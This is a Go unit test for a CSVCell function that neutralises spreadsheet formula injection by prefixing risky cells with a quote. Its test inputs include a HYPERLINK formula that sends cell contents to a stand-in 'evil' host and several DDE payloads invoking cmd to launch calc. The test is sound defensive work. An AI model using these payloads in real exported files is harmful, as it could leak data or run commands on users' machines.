package report

import "testing"

func TestCSVCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"":                               "",
		"main":                           "main",
		"-12":                            "-12",
		"-0.5":                           "-0.5",
		"2026-12-07T05:00:00Z":           "2026-12-07T05:00:00Z",
		`=HYPERLINK("http://evil/?"&A1)`: `'=HYPERLINK("http://evil/?"&A1)`,
		"+cmd|' /C calc'!A0":             "'+cmd|' /C calc'!A0",
		"-2+3+cmd|' /C calc'!A0":         "'-2+3+cmd|' /C calc'!A0",
		"@SUM(1+1)*cmd|' /C calc'!A0":    "'@SUM(1+1)*cmd|' /C calc'!A0",
		"\t=1+1":                         "'\t=1+1",
		"\r=1+1":                         "'\r=1+1",
		"'=already":                      "'=already",
		"a=b":                            "a=b",
	} {
		if got := CSVCell(in); got != want {
			t.Errorf("CSVCell(%q) = %q, want %q", in, got, want)
		}
	}
}
